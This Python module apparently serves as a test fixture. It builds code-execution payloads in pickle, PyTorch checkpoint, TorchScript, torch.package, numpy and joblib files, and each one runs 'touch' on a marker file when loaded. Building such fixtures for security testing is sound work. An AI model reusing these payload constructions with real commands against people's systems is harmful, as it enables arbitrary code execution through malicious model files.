"""Real payloads, one per loader family, each dropping a harmless marker file when loaded.

Each :class:`Payload` knows how to write its file and the one line of Python a program
would use to load it (the way an unmodified program or library calls that loader).
"""

from __future__ import annotations

import io
import os
import pickle
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


class _System:
    """Pickles as ``os.system("touch MARKER")``."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.marker}",)


def _torch_checkpoint(path: Path, marker: Path) -> None:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2), "note": _System(marker)}, buf)
    path.write_bytes(buf.getvalue())


_TORCHSCRIPT = '''
import sys
from typing import Tuple
import torch

class Writer(torch.nn.Module):
    """Its __setstate__ runs at torch.jit.load: torch.from_file(shared=True) creates a file."""

    def __init__(self, target: str):
        super().__init__()
        self.target = target
        self.n = 0

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool]) -> None:
        self.target = state[0]
        self.training = state[1]
        self.n = torch.from_file(self.target, shared=True, size=1).numel()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

torch.jit.save(torch.jit.script(Writer(sys.argv[2])), sys.argv[1])
'''


def _torchscript(path: Path, marker: Path) -> None:
    # Scripting needs the class's source in a file: build it in a throwaway interpreter.
    import subprocess
    import sys

    script = path.with_suffix(".build.py")
    script.write_text(textwrap.dedent(_TORCHSCRIPT))
    subprocess.run([sys.executable, str(script), str(path), str(marker)], check=True,
                   capture_output=True, timeout=180)
    script.unlink()


def _package(path: Path, marker: Path) -> None:
    from torch.package import PackageExporter  # type: ignore[attr-defined]

    with PackageExporter(str(path)) as exporter:
        exporter.save_source_string("evil", f"open({str(marker)!r}, 'w').close()\n")
        exporter.save_pickle("data", "obj.pkl", {"w": 1})


def _dcp(path: Path, marker: Path) -> None:
    import warnings

    import torch
    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"w": torch.ones(2)}, checkpoint_id=str(path))  # type: ignore[attr-defined]
    (path / ".metadata").write_bytes(pickle.dumps(_System(marker)))


def _pickle(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps({"x": _System(marker)}))


def _numpy(path: Path, marker: Path) -> None:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _System(marker)
    with open(path, "wb") as fh:
        np.save(fh, arr, allow_pickle=True)


def _joblib(path: Path, marker: Path) -> None:
    import joblib  # type: ignore[import-untyped]

    joblib.dump({"x": _System(marker)}, path)


@dataclass(frozen=True)
class Payload:
    """A loader family: how to build its payload file, and how a program loads it."""

    name: str
    suffix: str
    build: Callable[[Path, Path], None]
    load: str  # Python source loading the file at P

    def make(self, folder: Path, marker: Path) -> Path:
        path = folder / f"{self.name}{self.suffix}"
        self.build(path, marker)
        return path


PAYLOADS = [
    Payload("torch_load", ".pt", _torch_checkpoint,
            "import torch; torch.load(P, weights_only=False)"),
    Payload("torch_load_fileobj", ".pt", _torch_checkpoint,
            "import torch; torch.load(open(P, 'rb'), weights_only=False)"),
    Payload("jit_load", ".pt", _torchscript, "import torch; torch.jit.load(P)"),
    Payload("torch_package", ".pt", _package,
            "from torch.package import PackageImporter; "
            "PackageImporter(P).import_module('evil')"),
    Payload("dcp_load", ".dcp", _dcp,
            "import torch, torch.distributed.checkpoint as dcp; "
            "dcp.load({'w': torch.zeros(2)}, checkpoint_id=P)"),
    Payload("pickle_load", ".pkl", _pickle, "import pickle; pickle.load(open(P, 'rb'))"),
    Payload("pickle_loads", ".pkl", _pickle,
            "import pickle; pickle.loads(open(P, 'rb').read())"),
    Payload("pickle_Unpickler", ".pkl", _pickle,
            "import pickle; pickle.Unpickler(open(P, 'rb')).load()"),
    Payload("pickle_pure_load", ".pkl", _pickle, "import pickle; pickle._load(open(P, 'rb'))"),
    Payload("numpy_load", ".npy", _numpy,
            "import numpy; numpy.load(P, allow_pickle=True)"),
    Payload("joblib_load", ".joblib", _joblib, "import joblib; joblib.load(P)"),
]
